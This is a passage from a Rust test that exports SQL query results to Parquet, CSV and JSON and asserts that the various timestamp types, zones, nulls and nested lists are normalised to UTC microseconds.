    // lists, a null — all become UTC microseconds of the same instant.
    let sql = l.sql(
        "times",
        "SELECT id, \
           CAST(timestamp AS TIMESTAMP) AS t_naive, \
           timestamp, \
           arrow_cast(timestamp, 'Timestamp(Nanosecond, Some(\"Europe/Berlin\"))') AS t_berlin, \
           arrow_cast(timestamp, 'Timestamp(Millisecond, None)') AS t_millis, \
           date_trunc('hour', CAST(timestamp AS TIMESTAMP)) AS t_hour, \
           CASE WHEN id = 'p-0' THEN NULL ELSE CAST(timestamp AS TIMESTAMP) END AS t_null \
         FROM events ORDER BY id",
    );
    let pq = l.export("parquet", &["--sql", &sql], "sql-times");
    let cols = parquet_timestamps(&std::fs::read(&pq).unwrap(), "sql");
    assert_eq!(cols.len(), 6, "{:?}", cols.keys());
    for name in ["t_naive", "timestamp", "t_berlin"] {
        assert_eq!(cols[name], ts(&times), "{name}");
    }
    assert_eq!(
        cols["t_millis"],
        ts(&[
            "2026-03-02T00:00:00.000000Z",
            "2026-03-02T10:00:00.123000Z",
            "2026-03-02T23:59:59.999000Z"
        ])
    );
    assert_eq!(
        cols["t_hour"],
        ts(&[
            "2026-03-02T00:00:00.000000Z",
            "2026-03-02T10:00:00.000000Z",
            "2026-03-02T23:00:00.000000Z"
        ])
    );
    assert_eq!(cols["t_null"][0], None);
    assert_eq!(cols["t_null"][1..], ts(&times)[1..]);
    l.verify(&pq);

    // A list of timestamps inside a column is normalised too.
    let sql = l.sql(
        "nested",
        "SELECT id, make_array(CAST(timestamp AS TIMESTAMP)) AS ts_list FROM events",
    );
    let pq = l.export("parquet", &["--sql", &sql], "sql-nested");
    let builder = reexports::ParquetRecordBatchReaderBuilder::try_new(bytes::Bytes::from(
        std::fs::read(&pq).unwrap(),
    ))
    .unwrap();
    let leaf = builder
        .parquet_schema()
        .columns()
        .iter()
        .find(|c| c.path().string().starts_with("ts_list"))
        .unwrap()
        .clone();
    assert_eq!(
        leaf.logical_type_ref(),
        Some(&reexports::LogicalType::timestamp(
            true,
            reexports::ParquetUnit::MICROS
        ))
    );
    l.verify(&pq);

    // CSV and JSON of the same definition: RFC 3339 UTC with microseconds.
    let sql = l.sql(
        "times-text",
        "SELECT id, CAST(timestamp AS TIMESTAMP) AS t_naive, \
           arrow_cast(timestamp, 'Timestamp(Nanosecond, Some(\"Europe/Berlin\"))') AS t_berlin \
         FROM events ORDER BY id",
    );
    let csv = l.export("csv", &["--sql", &sql], "times-csv");
    let rows = csv_rows(&std::fs::read(&csv).unwrap());
    for (row, t) in rows.iter().zip(times) {
        assert_eq!(row["t_naive"], t);
        assert_eq!(row["t_berlin"], t);
    }
    assert_eq!(rows.len(), times.len());
    l.verify(&csv);
    for format in ["json", "ndjson"] {
        let path = l.export(format, &["--sql", &sql], &format!("times-{format}"));
        let text = std::fs::read_to_string(&path).unwrap();
        let records: Vec<Value> = if format == "json" {
            serde_json::from_str(&text).unwrap()
        } else {
            text.lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        };
        assert_eq!(records.len(), times.len());
        for (r, t) in records.iter().zip(times) {
            assert_eq!(r["t_naive"], t, "{format}");
            assert_eq!(r["t_berlin"], t, "{format}");
        }
        l.verify(&path);
    }
}
